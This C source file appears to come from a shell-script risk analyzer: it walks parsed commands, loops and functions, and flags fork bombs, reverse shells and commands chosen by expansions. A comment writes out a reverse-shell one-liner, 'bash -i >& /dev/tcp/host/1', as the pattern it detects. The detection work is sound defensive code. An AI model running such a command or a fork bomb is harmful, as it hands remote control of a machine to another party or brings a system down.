/* SPDX-License-Identifier: GPL-3.0-or-later */
/* risk_walk.c - the commands of a text, one after the other. */
#include <string.h>

#include "guard/risk/risk_expand.h"
#include "guard/risk/risk_memory.h"
#include "guard/risk/risk_paths.h"
#include "guard/risk/risk_run.h"

#define NAMES_MAX 256 /* functions of one line; more: opaque */

static void
define_function(struct risk_state *st, const struct risk_frame *f,
                const struct syntax_node *node)
{
    struct risk_name *d = risk_alloc(st, sizeof(*d));

    if (!d || !node->words || !node->kids)
        return;
    if (++st->n_names > NAMES_MAX) {
        st->full = true;
        return;
    }
    d->name = node->words->text;
    d->syntax = f->syntax;
    d->body = node->kids;
    d->certain = risk_is_certain(f, node);
    d->next = st->functions;
    st->functions = d;
}

/* bash calls it by itself, for the name of no program. */
static void
run_handler(struct risk_state *st, const struct risk_frame *f,
            const struct syntax_node *node)
{
    static const char name[] = "command_not_found_handle";
    struct risk_arg a = {.text = name, .glob = name, .known = true};

    if (!node->words || strcmp(node->words->text, name) != 0)
        return;
    a.from = risk_from(f, node->words->from);
    a.to = risk_to(f, node->words->to);
    risk_run(st, f, &a, 1);
}

/* f calls itself in a pipeline or in the background: it never ends. */
static void
check_bomb(struct risk_state *st, const struct risk_frame *f,
           const struct syntax_node *node)
{
    bool many = false;

    if (!f->function || !node->words ||
        strcmp(node->words->text, f->function) != 0)
        return;
    for (const struct syntax_node *n = node; n && n != f->body; n = n->parent)
        many = many || n->join == SYNTAX_BACKGROUND || n->join == SYNTAX_PIPE ||
               n->join == SYNTAX_PIPE_BOTH;
    if (many)
        risk_say(st, RISK_DESTRUCTIVE, risk_from(f, node->from),
                 risk_to(f, node->to), f->function,
                 "starts itself again and again until nothing else runs");
}

/* A shell whose terminal is somewhere else: bash -i >& /dev/tcp/host/1 */
static void
check_remote_shell(struct risk_state *st, const struct risk_frame *f,
                   const struct syntax_node *node, const struct risk_arg *v)
{
    char base[64];
    const struct program *p;

    if (!risk_is_socket(node->redirects) || !v->known)
        return;
    p = risk_find_program(v->text, base, sizeof(base));
    for (size_t i = 0; p && i < p->n_rules; i++)
        if (program_rules(p)[i].verb == PROGRAM_INPUT) {
            risk_say_opaque(st, risk_from(f, node->from), risk_to(f, node->to),
                            "another machine gets a shell here");
            return;
        }
}

static void
walk_call(struct risk_state *st, const struct risk_frame *f,
          const struct syntax_node *node)
{
    struct risk_args args = {0};
    struct risk_frame here = *f;

    for (const struct syntax_word *w = node->words; w; w = w->next) {
        risk_deceit(st, f, w);
        risk_expand(st, f, w, &args);
    }
    risk_assignments(st, f, node);
    if (args.n == 0) {
        if (node->words)
            risk_say_opaque(st, risk_from(f, node->from), risk_to(f, node->to),
                            "what runs is decided by an expansion");
        return;
    }
    here.input = risk_input_of(st, f, node);
    check_bomb(st, f, node);
    check_remote_shell(st, f, node, &args.v[0]);
    risk_builtin(st, f, node, args.v, args.n);
    risk_run(st, &here, args.v, args.n);
}

static void
walk_for(struct risk_state *st, const struct risk_frame *f,
         const struct syntax_node *node)
{
    const struct syntax_word *variable = node->words;
    struct risk_args all = {0};

    if (!variable)
        return;
    for (const struct syntax_word *w = variable->next; w; w = w->next) {
        risk_deceit(st, f, w);
        risk_expand(st, f, w, &all);
    }
    if (all.n == 0)
        risk_assign(st, variable->text, strlen(variable->text), NULL, true);
    for (size_t i = 0; i < all.n && i <= RISK_VALUES_MAX; i++) {
        struct risk_args *one = risk_alloc(st, sizeof(*one));
        struct risk_arg *a = one ? risk_args_add(st, one) : NULL;

        if (a)
            *a = all.v[i];
        risk_assign(st, variable->text, strlen(variable->text), a ? one : NULL,
                    i == 0);
    }
}

static void
leave_directories(struct risk_state *st, const struct risk_frame *f,
                  const struct syntax_node *node)
{
    while (st->directory->below && st->directory->frame == f &&
           node->from >= st->directory->until)
        st->directory = st->directory->below;
}

static void
walk_node(struct risk_state *st, const struct risk_frame *f,
          const struct syntax_node *node)
{
    unsigned before = st->facts;

    leave_directories(st, f, node);
    st->facts = f->facts;
    switch (node->kind) {
    case SYNTAX_CALL:
        walk_call(st, f, node);
        break;
    case SYNTAX_FUNCTION:
        define_function(st, f, node);
        run_handler(st, f, node);
        break;
    case SYNTAX_FOR:
    case SYNTAX_SELECT:
        walk_for(st, f, node);
        break;
    default:
        break;
    }
    risk_redirects(st, f, node);
    st->facts |= before;
}

/* A function or what eval reads may have moved: who knows where to. */
static void
forget_directory(struct risk_state *st, struct risk_directory *below)
{
    struct risk_directory *d = risk_alloc(st, sizeof(*d));

    st->directory = below;
    if (!d)
        return;
    d->below = below;
    d->until = (size_t)-1;
    st->directory = d;
}

void
risk_walk(struct risk_state *st, const struct risk_frame *f)
{
    const struct syntax_node *node = f->body ? f->body : f->syntax->all;
    struct risk_directory *directory = st->directory;
    size_t end = f->body ? f->body->to : (size_t)-1, past = 0;

    for (; node && node->from < end && !st->full; node = node->after) {
        if (++st->steps > RISK_STEPS_MAX)
            st->full = true;
        if (node->from < past)
            continue;
        walk_node(st, f, node);
        if (node->kind == SYNTAX_FUNCTION)
            past = node->to;
    }
    if (st->directory != directory && (f->body || f->evals))
        forget_directory(st, directory);
    else
        st->directory = directory;
    if (!f->body && f->syntax->fault)
        risk_say_opaque(st, risk_from(f, f->syntax->fault_at),
                        risk_to(f, f->syntax->fault_at),
                        "no shell could read it to its end");
}

void
risk_walk_text(struct risk_state *st, const struct risk_frame *f,
               const char *text, bool known)
{
    struct risk_frame inner = *f;

    if (!known)
        risk_say_opaque(st, f->from, f->to,
                        "runs a text that an expansion decides");
    if (f->depth >= RISK_NEST_MAX) {
        risk_say_opaque(st, f->from, f->to,
                        "texts are nested too deep to be read");
        return;
    }
    inner.outer = f;
    inner.syntax = risk_parse(st, text);
    inner.body = NULL;
    inner.external = false;
    inner.depth++;
    if (inner.syntax)
        risk_walk(st, &inner);
}
